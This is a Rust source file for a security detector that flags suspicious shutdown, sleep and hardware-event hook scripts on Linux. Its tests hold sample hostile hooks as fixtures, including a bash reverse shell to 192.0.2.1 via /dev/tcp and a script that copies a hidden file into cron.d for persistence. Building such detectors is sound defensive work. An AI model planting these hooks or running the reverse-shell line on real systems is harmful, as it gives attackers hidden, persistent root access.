//! Detector: a program that runs at shutdown, sleep or an event of the hardware and does something odd.

use crate::weigh;
use crate::{Card, Detector, Draft, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "power-hook",
        doc: "A program that runs at shutdown, sleep or an event of the hardware does what ordinary ones do not.",
        mechanisms: &[45],
        attack: &["T1546", "T1037"],
        why: "It runs as root by itself, even when every service was stopped: what is removed before a restart can be put back by it.",
        innocent: "you or a program you installed by hand made this script",
        next: "read the script and what it runs; keep both as evidence, and do not restart the machine before it is gone",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    weigh::hooks(tables, &["shutdown hook"], "A program of the shutdown", drafts);
    weigh::hooks(tables, &["sleep hook"], "A program of the machine's sleep", drafts);
    weigh::hooks(tables, &["power event"], "A program of hardware events", drafts);
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn debian() -> Mem {
        Mem::new()
            .file(
                "/var/lib/dpkg/info/mdadm.list",
                "/.\n/usr/lib/systemd/system-shutdown/mdadm.shutdown\n/usr/lib/systemd/system-sleep/unattended-upgrades\n",
            )
            .file("/usr/lib/systemd/system-shutdown/mdadm.shutdown", "#!/bin/sh\nexec /sbin/mdadm --wait-clean --scan\n")
            .owned("/usr/lib/systemd/system-shutdown/mdadm.shutdown", 0o755, 0, 0)
            .file("/usr/lib/systemd/system-sleep/unattended-upgrades", "#!/bin/sh\nexit 0\n")
            .owned("/usr/lib/systemd/system-sleep/unattended-upgrades", 0o755, 0, 0)
            .symlink("/lib", "usr/lib")
    }

    #[test]
    fn odd_programs_are_found_in_every_place() {
        for (path, text) in [
            ("/usr/lib/systemd/system-shutdown/00-net", "#!/bin/sh\n/usr/share/.n/x\n"),
            ("/usr/lib/systemd/system-shutdown/01-net", "#!/bin/sh\n/usr/lib/foreign\n"),
            ("/usr/lib/systemd/system-sleep/.own", "#!/bin/sh\nexit 0\n"),
            ("/usr/lib/systemd/system-shutdown/flush", "\x7fELF\x02"),
            ("/usr/lib/systemd/system-sleep/wake.sh", "#!/bin/sh\n/tmp/.w &\n"),
            ("/etc/systemd/system-sleep/a", "#!/bin/sh\ncp /var/tmp/.k /etc/cron.d/k\n"),
            ("/etc/pm/sleep.d/10_x", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n"),
            ("/etc/acpi/events/lid", "event=button/lid.*\naction=/dev/shm/lid.sh %e\n"),
            ("/run/initramfs/shutdown", "\x7fELF\x02"),
            ("/etc/nut/upsmon.conf", "MONITOR a\nNOTIFYCMD /var/tmp/n\n"),
        ] {
            let host = debian().file("/usr/lib/foreign", "\x7fELF").owned("/usr/lib/foreign", 0o755, 0, 0);
            let seen = check(host.file(path, text).owned(path, 0o755, 0, 0));
            let found = seen.alarms("power-hook");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn packages_and_administrators_programs_are_no_alarm() {
        let seen = check(
            debian()
                .file(
                    "/etc/systemd/system-sleep/wol",
                    "#!/bin/sh\n[ \"$1\" = pre ] && ethtool -s eth0 wol g\n",
                )
                .owned("/etc/systemd/system-sleep/wol", 0o755, 0, 0)
                .file("/etc/nut/upsmon.conf", "SHUTDOWNCMD \"/sbin/shutdown -h +0\"\n")
                .file("/etc/acpi/events/powerbtn", "event=button[ /]power\naction=/etc/acpi/powerbtn.sh\n")
                .file("/etc/acpi/powerbtn.sh", "#!/bin/sh\n/sbin/shutdown -h now \"Power button pressed\"\n")
                .owned("/etc/acpi/powerbtn.sh", 0o755, 0, 0),
        );
        assert!(seen.by("power-hook").is_empty(), "{:#?}", seen.findings);
        // systemd-sleep(8) knows no other place.
        let path = "/usr/lib/systemd/system-sleep/clock";
        let text = "#!/bin/sh\n[ \"$1\" = post ] && systemctl restart chrony\n";
        let seen = check(debian().file(path, text).owned(path, 0o755, 0, 0));
        assert!(seen.alarms("power-hook").is_empty(), "{:#?}", seen.findings);
    }
}
